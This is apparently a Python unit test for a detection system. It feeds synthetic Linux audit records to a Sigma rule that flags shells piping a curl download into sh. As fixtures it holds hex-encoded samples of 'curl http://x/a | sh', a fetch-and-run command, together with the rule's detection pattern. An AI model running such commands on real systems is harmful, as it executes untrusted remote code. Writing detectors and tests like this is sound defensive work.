"""Processes that Linux' audit daemon saw, from its records to the alert of a Sigma rule."""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from detectors.models import DetectorsOptions
from detectors.models.alerts import Alert, AlertFilter
from detectors.models.logs import IngestOptions
from detectors.plane import install
from detectors.ports import DetectorsPorts
from detectors.service import DetectorsServices
from secops.kernel.clock import from_rfc3339
from secops.kernel.pages import PageRequest
from tests.fakes.clock import FakeClock
from tests.fakes.detection_house import ANALYST
from tests.fakes.parts import database_spine
from tests.unit.detectors.test_audit_events import execution, record

NOW = from_rfc3339("2026-11-23T04:00:00Z")
RULE = """
title: a shell that downloads
id: 6a5f4a1e-5f2c-4a7b-9a43-0f9d3a3f1c11
status: stable
logsource: {product: linux, category: process_creation}
detection:
  shell: {Image|endswith: /sh, CommandLine|contains|all: [curl, '| sh']}
  place: {CurrentDirectory|startswith: /home/, User: ann}
  known: {CommandLine|contains: intranet.example}
  condition: shell and place and not known
level: high
"""
DOWNLOAD = ('"sh"', '"-c"', "6375726C20687474703A2F2F782F61207C207368")
"""curl http://x/a | sh"""
KNOWN = ('"sh"', '"-c"', "6375726C20696E7472616E65742E6578616D706C65207C207368")
"""curl intranet.example | sh"""


@contextmanager
def opened(home: Path) -> Iterator[DetectorsServices]:
    (home / "rules").mkdir(parents=True)
    (home / "rules" / "own.yml").write_text(RULE)
    spine = database_spine(home, clock=FakeClock(NOW))
    services = install(spine.parts, DetectorsPorts(), DetectorsOptions()).services
    assert isinstance(services, DetectorsServices)
    yield services
    spine.close()


def alerts_of(services: DetectorsServices) -> list[Alert]:
    while services.runs.tick():
        pass
    page = services.alerts.list_alerts(ANALYST, AlertFilter(), PageRequest(50))
    return [alert for alert in page.items if alert.title == "a shell that downloads"]


def test_joined_audit_records_fire_a_process_creation_rule(tmp_path: Path) -> None:
    first, second = execution(1, *DOWNLOAD, exe="/bin/sh"), execution(2, *KNOWN, exe="/bin/sh")
    woven = [line for pair in zip(first, second, strict=True) for line in pair]
    others = [*execution(3, '"curl"', '"http://x/a"', exe="/usr/bin/curl"), record("EOE", 3, "")]
    path = tmp_path / "audit.log"
    path.write_text("\n".join([*woven, *others]) + "\n")
    os.utime(path, (NOW / 1e6, NOW / 1e6))
    with opened(tmp_path / "home") as services:
        told = services.logs.ingest_files(ANALYST, [str(path)], IngestOptions(source="gw"))
        assert (told.stored, told.rejected) == (3, 0), "two woven events and one more"
        (alert,) = alerts_of(services)
        assert alert.event_count == 1
        seen = {reason.condition: reason.seen for reason in alert.reasons}
        assert seen["process.command_line"] == "sh -c curl http://x/a | sh"
        assert seen["process.executable"] == "/bin/sh"
        (event,) = services.logs.store.get(list(alert.event_ids))
        assert event.event.raw == "\n".join(first).encode(), "all of its records, no other's"


def test_records_apart_say_too_little_for_the_rule(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    syscall, *_ = execution(1, *DOWNLOAD, exe="/bin/sh")
    path.write_text(f"{syscall}\n")
    os.utime(path, (NOW / 1e6, NOW / 1e6))
    with opened(tmp_path / "home") as services:
        services.logs.ingest_files(ANALYST, [str(path)], IngestOptions(source="gw"))
        assert alerts_of(services) == [], "the control: the arguments are in another record"
